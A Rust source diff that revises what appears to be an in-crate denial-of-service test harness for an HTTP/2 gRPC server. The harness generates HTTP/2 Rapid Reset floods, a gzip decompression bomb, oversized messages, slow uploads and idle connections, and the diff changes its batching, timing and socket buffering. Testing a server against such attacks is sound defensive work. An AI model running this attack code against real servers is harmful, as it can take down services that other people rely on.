@@ -2,6 +2,8 @@
 
 use std::io::Write;
 use std::net::{Ipv4Addr, SocketAddr};
+use std::ops::Range;
+use std::sync::LazyLock;
 use std::time::Duration;
 
 use prost::Message;
@@ -24,10 +26,10 @@ const FRAME_BYTES: usize = 16 * 1024;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
-/// The longest that an attack goes on if nobody ends it.
-const ATTACK_MAX: Duration = Duration::from_secs(2);
-/// Frames written at once.
-const AT_ONCE: usize = 64;
+/// What is written at once, at least: a frame, or as many as have so many bytes.
+const AT_ONCE_BYTES: usize = 16 * 1024;
+/// What may be under way: whoever attacks has no work with what nobody takes.
+const UNDER_WAY_BYTES: u32 = 64 * 1024;
 /// How long one that is slow waits before it says another byte.
 const SLOWLY: Duration = Duration::from_millis(50);
 /// What comes out of a bomb of 220 KiB.
@@ -88,18 +90,19 @@ impl Attack {
         Self::Idle,
     ];
 
-    /// Attacks from an address until the server ends the connection, `frames` are sent, or it takes no more.
-    /// Returns the connection, and how many were sent.
+    /// Attacks from an address until the server ends the connection, `frames` are sent, or `most` has passed:
+    /// whoever reads nothing is not read from either, sooner or later. Returns the connection, and how many were
+    /// sent.
     pub(crate) async fn run(
         self,
         from: Ipv4Addr,
         server: SocketAddr,
         frames: usize,
+        most: Duration,
     ) -> (TcpStream, usize) {
         let (mut stream, mut sent) = (connect(from, server).await, 0);
         let attacking = self.send(&mut stream, server, frames, &mut sent);
-        // Whoever reads nothing is not read from either, sooner or later.
-        let _ended = tokio::time::timeout(ATTACK_MAX, attacking).await;
+        let _ended = tokio::time::timeout(most, attacking).await;
         (stream, sent)
     }
 
@@ -124,29 +127,32 @@ impl Attack {
             message: self.message(),
         };
         stream.write_all(&self.first(&call)).await?;
-        let (at_once, rest) = self.pace();
         while *sent < frames {
-            let many = (0..at_once).map(|number| self.frame(*sent + number, &call));
-            let many = many.collect::<Vec<_>>().concat();
-            if many.is_empty() && rest.is_none() {
+            let (many, number) = self.next(*sent..frames, &call);
+            if many.is_empty() && !self.is_patient() {
                 return Ok(());
             }
             stream.write_all(&many).await?;
-            *sent += at_once;
-            if let Some(rest) = rest {
-                tokio::time::sleep(rest).await;
+            *sent += number;
+            if self.is_patient() {
+                tokio::time::sleep(SLOWLY).await;
             }
         }
         Ok(())
     }
 
-    /// How many frames it writes at once, and how long it rests then.
-    fn pace(self) -> (usize, Option<Duration>) {
-        if self.is_patient() {
-            (1, Some(SLOWLY))
-        } else {
-            (AT_ONCE, None)
+    /// What it writes at once, and how many frames those are.
+    fn next(self, numbers: Range<usize>, call: &Call) -> (Vec<u8>, usize) {
+        let (mut many, mut sent) = (Vec::new(), 0);
+        for number in numbers {
+            let frame = self.frame(number, call);
+            many.extend_from_slice(&frame);
+            sent += 1;
+            if self.is_patient() || frame.is_empty() || many.len() >= AT_ONCE_BYTES {
+                break;
+            }
         }
+        (many, sent)
     }
 
     /// Whether it does little but stay.
@@ -158,7 +164,7 @@ impl Attack {
     fn message(self) -> Vec<u8> {
         match self {
             Self::LargeMessage => [&[0, 0xff, 0xff, 0xff, 0xff][..], &[7; 100]].concat(),
-            Self::Bomb => upload(bomb(), pb::Compression::Gzip),
+            Self::Bomb => upload(BOMB.clone(), pb::Compression::Gzip),
             Self::SlowUpload => {
                 let mut message = upload(vec![b'a'; 100_000], pb::Compression::Unspecified);
                 message.truncate(200);
@@ -205,7 +211,7 @@ impl Attack {
     /// What it goes on with.
     fn frame(self, number: usize, call: &Call) -> Vec<u8> {
         let Call { headers, message } = call;
-        let stream = u32::try_from(number * 2 + 1).unwrap() & 0x7fff_ffff;
+        let stream = u32::try_from(number * 2 + 1).unwrap();
         match self {
             Self::RapidReset => {
                 let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, headers);
@@ -242,6 +248,7 @@ async fn connect(from: Ipv4Addr, server: SocketAddr) -> TcpStream {
     let socket = TcpSocket::new_v4().unwrap();
     // Else each port would be taken for a minute after its connection.
     socket.set_reuseaddr(true).unwrap();
+    socket.set_send_buffer_size(UNDER_WAY_BYTES).unwrap();
     socket.bind((from, 0).into()).unwrap();
     socket.connect(server).await.unwrap()
 }
@@ -275,12 +282,12 @@ fn upload(content: Vec<u8>, compression: pb::Compression) -> Vec<u8> {
     [&[0][..], &length, &message].concat()
 }
 
-/// Little that becomes much.
-fn bomb() -> Vec<u8> {
+/// Little that becomes much; made once, for that takes longer than to send it.
+static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
     let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
     gzip.write_all(&vec![0; BOMB_BYTES]).unwrap();
     gzip.finish().unwrap()
-}
+});
 
 /// The headers of a call.
 fn headers(server: SocketAddr) -> Vec<u8> {
